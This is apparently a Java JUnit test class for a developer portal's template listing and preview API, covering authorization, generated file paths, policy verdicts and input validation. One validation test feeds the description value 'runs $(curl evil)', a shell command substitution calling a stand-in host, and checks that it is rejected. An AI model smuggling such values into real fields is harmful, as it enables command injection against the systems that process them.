package dev.slipway.portal;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

/** Templates and previews over the REST API: exactly the files a service would get, nothing written. */
@PortalTest
class TemplatesApiTest {

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    @Test
    void listsTheTemplatesWithTheirParameterSchemas() throws Exception {
        var response = ApiClient.as(port, "dev-carol").get("/api/v1/templates");
        assertThat(response.statusCode()).isEqualTo(200);
        JsonNode templates = ApiClient.json(response);
        assertThat(templates.findValuesAsString("id")).contains("http-service", "worker", "cron-job");
        JsonNode http = find(templates, "http-service");
        assertThat(http.at("/parametersSchema/properties/port/default").asInt()).isEqualTo(8080);
        assertThat(http.at("/defaults/resources/limits/memory").asString()).isEqualTo("256Mi");
        assertThat(ApiClient.anonymous(port).get("/api/v1/templates").statusCode()).isEqualTo(401);
        assertThat(ApiClient.as(port, "nobody").get("/api/v1/templates").statusCode()).isEqualTo(403);
        assertThat(ApiClient.as(port, "dev-carol").get("/api/v1/templates/no-such-template").statusCode()).isEqualTo(404);
    }

    @Test
    void previewsTheExactFilesAndThePolicyVerdictWithoutWritingAnything() throws Exception {
        int servicesBefore = count();
        var response = ApiClient.as(port, "dev-alice").post("/api/v1/templates/http-service/preview", """
                {"team": "payments", "name": "checkout",
                 "description": "Takes payments: \\"cards\\", wallets",
                 "parameters": {"ingress": {"enabled": true}, "replicas": 3}}""");
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        JsonNode preview = ApiClient.json(response);
        assertThat(preview.path("passesPolicy").asBoolean()).as(preview.path("violations").toString()).isTrue();
        List<String> paths = preview.path("files").findValuesAsString("path");
        assertThat(paths).contains("services/payments/checkout/service.yaml",
                "services/payments/checkout/prod/values.yaml", "clusters/prod/apps/payments/checkout-prod.yaml",
                "clusters/nonprod/namespaces/payments-dev.yaml");
        assertThat(paths).allMatch(p -> p.startsWith("clusters/") || p.startsWith("services/"));
        String devValues = content(preview, "services/payments/checkout/dev/values.yaml");
        assertThat(devValues).contains("host: \"checkout.payments.dev.apps.slipway.localhost\"").contains("replicas: 3");
        assertThat(count()).isEqualTo(servicesBefore);
    }

    @Test
    void aPreviewShowsPolicyViolationsOfTheRenderedChart() throws Exception {
        // three fixed replicas without autoscaling: the chart adds a PodDisruptionBudget but no autoscaler
        var response = ApiClient.as(port, "dev-alice").post("/api/v1/templates/http-service/preview", """
                {"team": "payments", "name": "fixed", "parameters": {"replicas": 3, "autoscaling": {"enabled": false}}}""");
        assertThat(response.statusCode()).isEqualTo(200);
        JsonNode preview = ApiClient.json(response);
        assertThat(preview.path("passesPolicy").asBoolean()).isFalse();
        assertThat(preview.path("violations").findValuesAsString("path"))
                .contains("dev: Deployment/fixed spec.replicas", "prod: Deployment/fixed spec.replicas");
    }

    @Test
    void badInputIsA422NamingEachField() throws Exception {
        var response = ApiClient.as(port, "dev-alice").post("/api/v1/templates/worker/preview", """
                {"team": "payments", "name": "Bad_Name", "description": "runs $(curl evil)",
                 "parameters": {"replicas": "many", "colour": "red", "resources": {"limits": {"cpu": "64"}}}}""");
        assertThat(response.statusCode()).isEqualTo(422);
        assertThat(response.headers().firstValue("Content-Type")).hasValue("application/problem+json");
        List<String> fields = ApiClient.json(response).path("errors").findValuesAsString("field");
        assertThat(fields).contains("name", "description", "parameters.replicas", "parameters.colour");

        var outOfRange = ApiClient.as(port, "dev-alice").post("/api/v1/templates/worker/preview", """
                {"team": "payments", "name": "hungry", "parameters": {"resources": {"limits": {"cpu": "16"}}}}""");
        assertThat(outOfRange.statusCode()).isEqualTo(422);
        assertThat(ApiClient.json(outOfRange).path("errors").findValuesAsString("field"))
                .containsExactly("parameters.resources.limits.cpu");

        assertThat(ApiClient.as(port, "dev-alice").post("/api/v1/templates/worker/preview",
                "{\"name\": \"no-team\"}").statusCode()).isEqualTo(422);
        assertThat(ApiClient.as(port, "dev-alice").post("/api/v1/templates/worker/preview",
                "{\"team\": \"no-such-team\", \"name\": \"x\"}").statusCode()).isEqualTo(404);
        assertThat(ApiClient.as(port, "dev-alice").post("/api/v1/templates/no-such-template/preview",
                "{\"team\": \"payments\", \"name\": \"x\"}").statusCode()).isEqualTo(404);
        assertThat(ApiClient.as(port, "dev-alice").post("/api/v1/templates/worker/preview",
                "{\"team\": \"payments\", \"name\": \"x\", \"parameters\": [1, 2]}").statusCode()).isIn(400, 422);
    }

    private int count() {
        return jdbc.sql("select count(*) from services").query(Integer.class).single();
    }

    private static JsonNode find(JsonNode templates, String id) {
        var all = new ArrayList<JsonNode>();
        templates.forEach(all::add);
        return all.stream().filter(t -> t.path("id").asString().equals(id)).findFirst().orElseThrow();
    }

    private static String content(JsonNode preview, String path) {
        var all = new ArrayList<JsonNode>();
        preview.path("files").forEach(all::add);
        return all.stream().filter(f -> f.path("path").asString().equals(path)).findFirst().orElseThrow()
                .path("content").asString();
    }
}
